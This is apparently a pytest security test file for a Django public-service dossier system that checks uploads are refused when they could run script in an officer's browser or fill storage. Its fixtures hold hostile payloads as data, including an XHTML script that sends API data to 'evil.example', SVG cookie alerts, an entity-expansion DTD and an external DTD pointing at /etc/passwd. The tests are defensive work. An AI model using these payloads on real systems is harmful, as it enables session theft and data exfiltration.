"""Uploaded files cannot carry a script into an official's browser, and cannot fill the
storage.

The attack: a citizen attached an ``.xml`` whose content was XHTML with a ``<script>``; the
type check only wanted a leading ``<``, and the file was served inline on the site's own
origin, so opening it ran the script with the one-stop officer's session."""
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from xaso.dossiers import services
from xaso.dossiers.models import Component
from xaso.dossiers.services import DossierError

from .conftest import PDF, api_as, applicant, at, components

pytestmark = pytest.mark.django_db

XHTML = b"""<?xml version="1.0"?>
<html xmlns="http://www.w3.org/1999/xhtml"><body>
<script>fetch('/api/v1/dossiers/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script>
</body></html>"""
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
NESTED_XHTML = b'<data><x:div xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></x:div></data>'
STYLESHEET = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xsl,..."?><data/>'
DTD = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><d>&b;</d>'
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE d SYSTEM "file:///etc/passwd"><d/>'
NOT_XML = b"<<< not xml"
DATA_XML = '<?xml version="1.0" encoding="UTF-8"?><ToKhai><HoTen>Nguyễn Văn An</HoTen></ToKhai>'.encode()


@pytest.fixture(autouse=True)
def _no_2fa(settings):
    settings.XASO_TWO_FACTOR_REQUIRED_ROLES = []


@pytest.fixture
def online(world):
    return services.submit_online(
        user=world.citizen, terms=world.terms, applicant=applicant(), components=components(with_file=False), receiving_unit=world.centre, now=at(2026, 3, 2, 20)
    )


def _upload(user, d, name, content):
    comp = Component.objects.get(dossier=d, name="Tờ khai đăng ký khai sinh")
    return api_as(user).post(f"/api/v1/dossiers/{d.code}/files/", {"component": comp.pk, "file": SimpleUploadedFile(name, content)}, format="multipart")


@pytest.mark.parametrize(
    "content",
    [XHTML, SVG, NESTED_XHTML, STYLESHEET, DTD, EXTERNAL, NOT_XML],
    ids=["xhtml-script", "svg", "xhtml-inside-data", "xml-stylesheet", "dtd-entities", "external-dtd", "not-xml"],
)
def test_an_xml_a_browser_would_run_is_refused(world, online, content):
    r = _upload(world.citizen, online, "to-khai.xml", content)
    assert r.status_code == 400, r.content
    assert "to-khai.xml" in r.json()["detail"] or "Tờ khai" in r.json()["detail"]
    assert not Component.objects.get(dossier=online, name="Tờ khai đăng ký khai sinh").file


def test_plain_xml_data_is_still_accepted(world, online):
    r = _upload(world.citizen, online, "to-khai.xml", DATA_XML)
    assert r.status_code == 201, r.content
    assert r.json()["content_type"] == "application/xml"


@pytest.mark.parametrize(
    "name,content",
    [
        ("scan.pdf", b"<html><script>alert(1)</script></html>"),
        ("scan.docx", b"PK\x03\x04 an HTML file with a zip header"),
        ("anh.png", b"\x89PNG but not really"),
        ("trang.html", b"<html></html>"),
        ("anh.svg", SVG),
    ],
)
def test_type_comes_from_the_content(world, online, name, content):
    assert _upload(world.citizen, online, name, content).status_code == 400


def test_every_stored_file_is_served_as_an_attachment_with_sandbox_headers(world, make_intake):
    # A file stored before the checks existed (or one that passes them): never inline.
    d = make_intake(components=components(with_file=False))
    comp = Component.objects.get(dossier=d, name="Tờ khai đăng ký khai sinh")
    comp.file.save("to-khai.xml", SimpleUploadedFile("to-khai.xml", XHTML), save=False)
    comp.content_type = "application/xml"
    comp.save()
    client = Client()
    client.force_login(world.reception)
    r = client.get(reverse("dossiers:component_file", args=[d.code, comp.pk]))
    assert r.status_code == 200
    assert r["Content-Disposition"].startswith("attachment;")
    assert r["X-Content-Type-Options"] == "nosniff"
    assert r["Content-Security-Policy"].startswith("sandbox")
    assert "no-store" in r["Cache-Control"]
    assert r["Content-Type"] == "application/xml"
    # A file of a type not accepted (stored before the checks) is sent as bytes, never as a
    # page.
    comp.file.save("trang.html", SimpleUploadedFile("trang.html", XHTML), save=False)
    comp.content_type = "text/html"
    comp.save()
    r = client.get(reverse("dossiers:component_file", args=[d.code, comp.pk]))
    assert r["Content-Type"] == "application/octet-stream" and r["Content-Disposition"].startswith("attachment;")


def test_the_result_file_is_an_attachment_too(world, make_intake):
    from .conftest import result_pdf

    d = make_intake()
    d.result_file.save("ket-qua.pdf", result_pdf(), save=True)
    client = Client()
    client.force_login(world.reception)
    r = client.get(reverse("dossiers:result_file", args=[d.code]))
    assert r["Content-Disposition"].startswith("attachment;") and r["Content-Security-Policy"].startswith("sandbox")


def test_a_replaced_file_is_deleted_from_storage(world, make_intake, django_capture_on_commit_callbacks):
    d = make_intake(components=components(with_file=False))
    comp = Component.objects.get(dossier=d, name="Tờ khai đăng ký khai sinh")
    with django_capture_on_commit_callbacks(execute=True):
        services.attach_file(d, world.reception, file=SimpleUploadedFile("a.pdf", PDF), component_id=comp.pk)
    comp.refresh_from_db()
    first = comp.file.name
    assert comp.file.storage.exists(first)
    with django_capture_on_commit_callbacks(execute=True):
        services.attach_file(d, world.reception, file=SimpleUploadedFile("b.pdf", PDF), component_id=comp.pk)
    comp.refresh_from_db()
    assert comp.file.name != first and comp.file.storage.exists(comp.file.name)
    assert not comp.file.storage.exists(first)


def test_files_per_dossier_are_bounded_in_number_and_size(world, make_intake, settings):
    d = make_intake(components=components(with_file=False))
    comp = Component.objects.get(dossier=d, name="Tờ khai đăng ký khai sinh")
    other = Component.objects.get(dossier=d, name="Giấy chứng sinh")
    settings.XASO_DOSSIER_MAX_TOTAL_MB = 1
    big = PDF + b"0" * (700 * 1024)
    services.attach_file(d, world.reception, file=SimpleUploadedFile("a.pdf", big), component_id=comp.pk)
    # Replacing the same component frees its size: allowed.
    services.attach_file(d, world.reception, file=SimpleUploadedFile("a2.pdf", big), component_id=comp.pk)
    with pytest.raises(DossierError, match="MB"):
        services.attach_file(d, world.reception, file=SimpleUploadedFile("b.pdf", big), component_id=other.pk)
    settings.XASO_DOSSIER_MAX_TOTAL_MB = 200
    settings.XASO_DOSSIER_MAX_FILES = 1
    with pytest.raises(DossierError, match="1"):
        services.attach_file(d, world.reception, file=SimpleUploadedFile("b.pdf", PDF), component_id=other.pk)


def test_uploads_are_rate_limited_per_account_whatever_the_method(world, online, settings):
    settings.XASO_UPLOAD_RATE = "3/h"
    statuses = [_upload(world.citizen, online, "a.pdf", PDF).status_code for _ in range(5)]
    assert statuses[:3] == [201, 201, 201] and statuses[-1] == 429, statuses
    # HEAD/OPTIONS on the endpoint count too and are refused once over.
    api = api_as(world.citizen)
    assert api.options(f"/api/v1/dossiers/{online.code}/files/").status_code == 429
